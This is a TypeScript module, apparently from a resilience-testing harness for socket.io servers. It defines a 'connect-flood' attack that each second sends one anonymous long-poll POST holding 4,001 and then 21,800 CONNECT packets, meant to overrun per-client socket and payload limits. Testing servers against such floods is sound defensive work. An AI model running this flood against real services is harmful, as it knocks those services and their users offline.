import { PollingConnection } from '../wire/polling-wire.ts';
import { ANONYMOUS, type Attack } from './attack.ts';

const CONNECT = '40\x1e';
/** As many as there may be unproven sockets and one more; then as many as fit into what a stranger may post. */
const CONNECTS = [4_001, 21_800];
const CONNECT_INTERVAL_MS = 1_000;

/** Row 1: one request that holds thousands of units of what is limited. */
export const connectFlood: Attack = {
  name: 'connect-flood',
  does: 'one long-poll POST each second with 4,001 and then 21,800 socket.io CONNECTs',
  shapes: ANONYMOUS,
  async run(context) {
    await context.begin();
    await context.repeat(1, async (_worker, turn) => {
      const wire = await context.openHttp(turn);
      const polling = await PollingConnection.open(wire);
      await polling.post(CONNECT.repeat(CONNECTS[Math.min(turn, 1)] ?? 0).slice(0, -1));
      await context.pause(CONNECT_INTERVAL_MS);
    });
  },
};
